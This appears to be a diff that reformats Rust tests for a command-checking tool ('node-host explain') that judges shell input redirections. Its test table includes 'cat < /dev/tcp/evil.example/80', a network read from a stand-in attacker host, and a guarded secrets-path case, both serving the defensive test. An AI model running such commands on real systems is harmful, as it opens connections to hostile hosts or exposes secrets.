@@ -211,13 +211,11 @@ fn stdin_from_a_file_is_judged_as_a_read_and_shown() {
         "{v:#}"
     );
     // The text a person reads names the file the command is fed.
-    let out = output(home.command("node-host").args([
-        "explain",
-        "--cwd",
-        cwd,
-        "--shell",
-        "cat < a.txt",
-    ]));
+    let out =
+        output(
+            home.command("node-host")
+                .args(["explain", "--cwd", cwd, "--shell", "cat < a.txt"]),
+        );
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(text.contains("cat < a.txt"), "{text}");
     assert!(
@@ -231,7 +229,11 @@ fn stdin_from_a_file_is_judged_as_a_read_and_shown() {
             "argument-guard",
             "secrets.path",
         ),
-        ("cat < /dev/tcp/evil.example/80", "not-understood", "input-file"),
+        (
+            "cat < /dev/tcp/evil.example/80",
+            "not-understood",
+            "input-file",
+        ),
         ("cat < missing.txt", "not-understood", "input-file"),
         ("cat < *.txt", "not-understood", "glob"),
     ] {
